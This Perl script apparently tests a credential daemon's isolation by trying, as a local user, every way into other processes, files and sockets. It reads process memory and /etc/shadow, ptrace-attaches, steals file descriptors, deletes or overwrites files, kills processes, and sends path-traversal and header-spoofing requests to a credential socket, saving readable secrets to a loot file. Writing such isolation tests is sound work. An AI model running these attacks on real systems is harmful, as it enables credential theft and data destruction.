# A local user who tries every way to what other processes and files hold.
#
#   try_all.pl LOOT < WORDS
#
# The words are lines of `pid NUMBER`, `file PATH`, `folder PATH`, `socket PATH`, `closed PATH` (a socket) and `name CREDENTIAL`.
# Prints a line `WHAT ERRNO` for each try that has to fail, with 0 for one that did not; what can be read without leave
# goes to the file LOOT, to be searched for secrets.
use strict;
use warnings;
use Socket;

$| = 1;
my ($loot) = @ARGV;
open(my $keep, '>', $loot) or die "$loot: $!";
my %words;
while (<STDIN>) { chomp; my ($kind, $word) = split / /, $_, 2; push @{ $words{$kind} }, $word }

sub try_it { my ($what, $code) = @_; $! = 0; my $done = $code->(); print "$what ", ($done ? 0 : $! + 0 || 'unknown'), "\n" }

# Reads at most so much that no endless file holds it up.
sub read_all {
    my ($path) = @_;
    open(my $file, '<', $path) or return 0;
    my $all = '';
    while (length $all < 1 << 22 and sysread($file, my $some, 1 << 16)) { $all .= $some }
    print $keep "--- $path\n$all\n";
    return length $all;
}

# --- Processes.

my ($ptrace, $readv, $kcmp, $perf, $robust, $move, $prlimit, $pidfd_open, $pidfd_getfd) =
    `uname -m` eq "aarch64\n" ? (117, 270, 272, 241, 100, 239, 261, 434, 438) : (101, 310, 312, 298, 274, 279, 302, 434, 438);
for my $pid (@{ $words{pid} }) {
    my $proc = "/proc/$pid";
    for my $file (qw(mem environ maps smaps smaps_rollup pagemap auxv stack syscall io personality mountstats)) {
        try_it("read $proc/$file", sub { read_all("$proc/$file") });
    }
    for my $link (qw(exe root cwd)) { try_it("follow $proc/$link", sub { readlink "$proc/$link" }) }
    for my $folder (qw(fd fdinfo map_files task/PID/fd root/ cwd/)) {
        (my $path = "$proc/$folder") =~ s/PID/$pid/;
        try_it("list $path", sub { opendir(my $opened, $path) });
    }
    for my $fd (0 .. 32) { try_it("open $proc/fd/$fd", sub { open(my $file, '<', "$proc/fd/$fd") }) }
    try_it("read $proc/task/$pid/mem", sub { read_all("$proc/task/$pid/mem") });
    for my $file (qw(mem clear_refs coredump_filter oom_score_adj comm timerslack_ns uid_map attr/current)) {
        try_it("write $proc/$file", sub { my $opened; open($opened, '>', "$proc/$file") and syswrite($opened, "1\n") });
    }
    # What everyone may see of a process.
    read_all("$proc/$_") for qw(cmdline comm status stat statm cgroup limits mountinfo mounts sched schedstat wchan
        oom_score oom_adj sessionid loginuid cpuset net/unix net/tcp net/udp net/packet);
    try_it("attach to $pid", sub { syscall($ptrace, 16, $pid + 0, 0, 0) == 0 });
    try_it("seize $pid", sub { syscall($ptrace, 0x4206, $pid + 0, 0, 0) == 0 });
    my $room = "\0" x 4096;
    my $vector = pack 'PQ', $room, 4096;
    my $remote = pack 'QQ', 0x400000, 4096;
    try_it("process_vm_readv $pid", sub { syscall($readv, $pid + 0, $vector, 1, $remote, 1, 0) >= 0 });
    try_it("kcmp $pid", sub { syscall($kcmp, $pid + 0, $$ + 0, 0, 0, 0) >= 0 });
    try_it("get_robust_list $pid", sub { my ($head, $length) = ("\0" x 8, "\0" x 8); syscall($robust, $pid + 0, $head, $length) == 0 });
    try_it("move_pages $pid", sub { syscall($move, $pid + 0, 0, 0, 0, 0, 0) == 0 });
    my $endless = pack 'QQ', -1, -1;
    try_it("prlimit $pid", sub { syscall($prlimit, $pid + 0, 4, $endless, 0) == 0 });
    my $attributes = pack 'LLQ x104', 1, 112, 1;
    try_it("perf_event_open $pid", sub { syscall($perf, $attributes, $pid + 0, -1, -1, 0) >= 0 });
    my $handle = syscall($pidfd_open, $pid + 0, 0);
    for my $fd (0 .. 32) { try_it("pidfd_getfd $pid $fd", sub { syscall($pidfd_getfd, $handle, $fd, 0) >= 0 }) }
    for my $signal (qw(QUIT ABRT STOP HUP TERM KILL)) { try_it("kill -$signal $pid", sub { kill $signal, $pid }) }
    if (-x '/usr/bin/strace') {
        my $said = `strace -qq -p $pid -e trace=none 2>&1 </dev/null`;
        try_it("strace $pid", sub { $! = 1; $said !~ /Operation not permitted/ });
    }
}

# --- Files.

for my $path (@{ $words{file} }) {
    try_it("read $path", sub { read_all($path) });
    try_it("write $path", sub { open(my $file, '>>', $path) });
    try_it("replace $path", sub { rename $loot, $path });
    try_it("remove $path", sub { unlink $path });
    try_it("link $path", sub { link $path, "$loot.link" and read_all("$loot.link") });
    try_it("chmod $path", sub { chmod 0666, $path });
}
for my $path (@{ $words{folder} }) {
    try_it("make a file in $path", sub { open(my $file, '>', "$path/planted") });
    try_it("make a link in $path", sub { symlink '/etc', "$path/planted" });
    try_it("bind in $path", sub { my $s; socket($s, AF_UNIX, SOCK_STREAM, 0) and bind($s, pack_sockaddr_un("$path/planted.sock")) });
    try_it("chmod $path", sub { chmod 0777, $path });
    try_it("move $path", sub { rename $path, "$loot.folder" });
}
# What the daemon has left where everyone looks.
sub search {
    my ($folder, $depth) = @_;
    opendir(my $opened, $folder) or return;
    for my $entry (grep { !/^\.\.?$/ } readdir $opened) {
        my $path = "$folder/$entry";
        next if -l $path or $path eq $loot;
        if (-d _) { search($path, $depth - 1) if $depth and (stat _)[4] != $< }
        elsif (-f _ and -r _ and (stat _)[4] == $words{owner}[0]) { read_all($path) }
    }
}
search($_, 4) for qw(/tmp /var/tmp /dev/shm /run);
read_all($_) for qw(/proc/keys /proc/key-users /proc/sysvipc/shm /proc/sysvipc/msg /proc/sysvipc/sem /proc/net/unix /proc/locks);
try_it("read $_", sub { read_all($_) }) for qw(/proc/kcore /dev/mem /dev/kmem /dev/port /dev/kmsg /etc/shadow);

# --- Sockets.

sub asked {
    my ($path, $request, $from) = @_;
    socket(my $stream, AF_UNIX, SOCK_STREAM, 0) or die;
    bind($stream, pack_sockaddr_un($from)) or die "bind: $!" if $from;
    connect($stream, pack_sockaddr_un($path)) or return 0;
    send($stream, $request, MSG_NOSIGNAL);
    shutdown($stream, 1);
    my $all = '';
    while (sysread($stream, my $some, 1 << 16)) { $all .= $some }
    print $keep "--- $request\n$all\n";
    return $all =~ m{^HTTP/1.1 2};
}
for my $path (@{ $words{closed} }) {
    try_it("connect $path", sub { asked($path, "GET / HTTP/1.1\r\n\r\n") });
    (my $id = $words{name}[0]) =~ s{/}{--};
    try_it("connect $path from a forged address", sub { asked($path, '', "\0feed$$/unit/app.service/$id") });
}
for my $path (@{ $words{socket} }) {
    for my $name (@{ $words{name} }) {
        (my $escaped = $name) =~ s{/}{%2F};
        my $body = '{"names":["' . $name . '"],"select":{"names":["' . $name . '"]}}';
        for my $asked ($name, $escaped, "$name?previous=true", "$name?wait=0", "$name/", "./$name", "../credentials/$name", uc $name,
            "$name%00", "$name.json", "$name;x", "*", "**", "")
        {
            for my $method (qw(GET HEAD POST PUT DELETE OPTIONS TRACE PATCH CONNECT)) {
                my $head = "$method /v1/credentials/$asked HTTP/1.1\r\nHost: k\r\nX-Real-User: root\r\nAuthorization: Basic cm9vdDo=\r\nConnection: close\r\n\r\n";
                try_it("$method $asked", sub { $! = 1; asked($path, $head) });
            }
        }
        for my $verb (qw(status list show rotate verify fetch history import adopt reconcile resume reload unseal backup escrow why)) {
            my $head = "POST /v1/$verb HTTP/1.1\r\nHost: k\r\nConnection: close\r\nContent-Length: " . length($body) . "\r\n\r\n$body";
            try_it("POST $verb", sub { $! = 1; asked($path, $head) });
        }
    }
}
